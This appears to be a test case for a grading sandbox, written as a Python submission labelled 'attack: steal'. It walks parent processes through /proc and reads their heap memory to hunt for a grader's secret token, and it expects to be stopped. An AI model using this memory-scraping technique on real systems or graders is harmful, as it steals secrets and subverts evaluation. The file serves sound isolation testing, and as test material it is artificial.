# attack: steal
# goal: find a secret in the memory of the grader, which a process of the same user may read
# expect: WRONG_GRADIENT

import os
import re


def parents():
    pid = os.getppid()
    for _ in range(3):  # the fork server, who watches over it, and the grader
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(") ")[2].split()[1])


def heap(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        (place,) = [line.split()[0] for line in maps if line.endswith("[heap]\n")]
        first, last = (int(part, 16) for part in place.split("-"))
        memory.seek(first)
        return memory.read(min(last - first, 1 << 25))


try:
    for pid in parents():
        try:
            print("GOT THROUGH", re.findall(rb"SECRET-[0-9a-f]{32}", heap(pid))[:1])
        except (OSError, ValueError) as error:
            print(type(error).__name__)
except OSError as error:
    print(type(error).__name__)


def gradient(x):
    return x * 0
